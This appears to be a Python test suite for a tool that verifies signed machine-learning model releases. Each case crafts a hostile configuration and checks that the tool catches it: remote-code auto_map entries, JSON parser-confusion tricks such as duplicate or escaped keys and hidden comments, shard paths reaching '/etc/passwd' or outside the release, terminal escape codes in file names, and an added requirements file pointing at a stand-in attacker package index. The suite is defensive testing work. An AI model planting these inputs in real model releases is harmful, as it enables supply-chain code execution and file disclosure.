"""Configurations that make a framework load what nobody signed."""

import json

from corpus import case
from place import Place

LIMIT = 128 << 20


def config(place: Place, content: str | bytes, file: str = "config.json") -> list[str]:
    """The release with this config, which its publisher signed."""
    place.write(file, content if isinstance(content, bytes) else content.encode())
    place.signed()
    return place.verify()


def index(place: Place, *shards: str) -> list[str]:
    """The release with an index that names these shards."""
    names = {f"w{at}": shard for at, shard in enumerate(shards)}
    return config(place, json.dumps({"weight_map": names}), "model.safetensors.index.json")


# --- code from elsewhere ---


@case("config/auto-map", "A class is taken from another repository.", exit=1, finds="remote-code")
def auto_map(place: Place) -> list[str]:
    return config(place, '{"auto_map": {"AutoModel": "mallory/code--modeling.Model"}}')


@case("config/auto-map-escaped", "The key is spelt with escapes.", exit=1, finds="remote-code")
def auto_map_escaped(place: Place) -> list[str]:
    return config(place, r'{"\u0061uto\u005fmap": {"AutoModel": ["a/b-\u002dc.D", null]}}')


@case(
    "config/auto-map-in-a-tokenizer",
    "A config of the tokenizer, deep below.",
    exit=1,
    finds="remote-code",
)
def auto_map_in_a_tokenizer(place: Place) -> list[str]:
    nested = '{"a":' * 100 + '{"auto_map": {"AutoTokenizer": ["x/y--tok.T", null]}}' + "}" * 100
    return config(place, nested, "sub/tokenizer_config.json")


@case(
    "config/custom-pipeline",
    "A pipeline of another repository.",
    exit=1,
    finds="remote-code",
)
def custom_pipeline(place: Place) -> list[str]:
    return config(place, '{"custom_pipelines": {"go": {"impl": "x--pipe.Go", "pt": []}}}')


@case(
    "config/form-alone",
    "A text of the form that is loaded from elsewhere, under a key that nobody knows.",
    exit=1,
    finds="remote-code",
)
def form_alone(place: Place) -> list[str]:
    return config(place, '{"processor": {"made_of": "lab/model--mod.Class"}}')


@case(
    "config/two-hyphens",
    "Texts with two hyphens that name no code.",
    exit=0,
    spares="remote-code",
)
def two_hyphens(place: Place) -> list[str]:
    return config(place, '{"note": "see a--b", "flags": "--fast --no-cache", "path": "a/b--c", "x": "--"}')


# --- what is not JSON to everybody ---


@case(
    "config/key-twice",
    "A key that stands twice: some readers see the code, others the harmless one.",
    exit=3,
    finds="file-unchecked",
)
def key_twice(place: Place) -> list[str]:
    return config(place, '{"auto_map": {"AutoModel": "a/b--c.D"}, "auto_map": {}}')


@case(
    "config/key-twice-escaped",
    "A key that stands twice, once spelt with an escape.",
    exit=3,
    finds="file-unchecked",
)
def key_twice_escaped(place: Place) -> list[str]:
    return config(place, r'{"auto_map": {}, "auto\u005fmap": {"AutoModel": "a/b--c.D"}}')


@case("config/nested", "Nested a hundred thousand deep.", exit=3, finds="file-unchecked")
def nested(place: Place) -> list[str]:
    return config(place, "[" * 100_000 + "]" * 100_000)


@case("config/utf-16", "In an encoding that some readers guess.", exit=3, finds="file-unchecked")
def utf_16(place: Place) -> list[str]:
    return config(place, '{"auto_map": {"AutoModel": "a/b--c.D"}}'.encode("utf-16"))


@case(
    "config/comment",
    "With a comment, which some readers skip with all that it hides.",
    exit=3,
    finds="file-unchecked",
)
def comment(place: Place) -> list[str]:
    return config(place, '{"a": 1 /* "auto_map": {"AutoModel": "a/b--c.D"} */}')


@case("config/two-values", "A second value behind the first.", exit=3, finds="file-unchecked")
def two_values(place: Place) -> list[str]:
    return config(place, '{} {"auto_map": {"AutoModel": "a/b--c.D"}}')


@case("config/lone-surrogate", "A text that is no Unicode.", exit=3, finds="file-unchecked")
def lone_surrogate(place: Place) -> list[str]:
    return config(place, r'{"auto_map": "a/b--c\ud800.D"}')


@case(
    "config/above-its-limit",
    "One byte more than is read of a config, none of which is a value.",
    exit=3,
    finds="file-unchecked",
)
def above_its_limit(place: Place) -> list[str]:
    with open(place.release / "config.json", "wb") as file:
        file.truncate(LIMIT + 1)
    place.signed()
    return place.verify()


@case(
    "config/numbers-of-every-form",
    "Numbers that JSON does not have and Python writes, and numbers of a thousand digits.",
    exit=0,
    spares="file-unchecked",
)
def numbers_of_every_form(place: Place) -> list[str]:
    return config(place, f'{{"a": NaN, "b": -Infinity, "c": 1e999999, "d": {"9" * 1000}}}')


# --- shards ---


@case(
    "config/shard-outside", "An index names a file outside the release.", exit=1, finds="loadable-uncovered"
)
def shard_outside(place: Place) -> list[str]:
    return index(place, "model.safetensors", "../outside/secret.txt")


@case("config/shard-absolute", "An index names a file of the machine.", exit=1, finds="loadable-uncovered")
def shard_absolute(place: Place) -> list[str]:
    return index(place, "/etc/passwd")


@case(
    "config/shard-of-nobody", "An index names a shard that is not signed.", exit=1, finds="loadable-uncovered"
)
def shard_of_nobody(place: Place) -> list[str]:
    return index(place, "model.safetensors", "model-00002-of-00002.safetensors")


@case(
    "config/shard-for-a-terminal",
    "The name of a shard would clear the terminal of who reads that it is none.",
    exit=1,
    finds="loadable-uncovered",
)
def shard_for_a_terminal(place: Place) -> list[str]:
    return index(place, "\x1b[2J\u202e\x00.safetensors")


@case(
    "config/many-shards",
    "An index with twenty thousand names of nothing: told, and not each on a screen of its own.",
    exit=1,
    finds="loadable-uncovered",
)
def many_shards(place: Place) -> list[str]:
    return index(place, *(f"{at}.safetensors" for at in range(20_000)))


@case("config/shard-that-is-signed", "An index of what is signed.", exit=0, spares="loadable-uncovered")
def shard_that_is_signed(place: Place) -> list[str]:
    return index(place, "model.safetensors", "model.safetensors")


@case(
    "config/requirements-added",
    "A list of packages to install, added after signing, under a name that hides in a directory.",
    exit=1,
    finds="file-added",
)
def requirements_added(place: Place) -> list[str]:
    place.signed()
    place.write("onnx/requirements.txt", b"--index-url https://mallory.example\nnumpy\n")
    return place.verify()
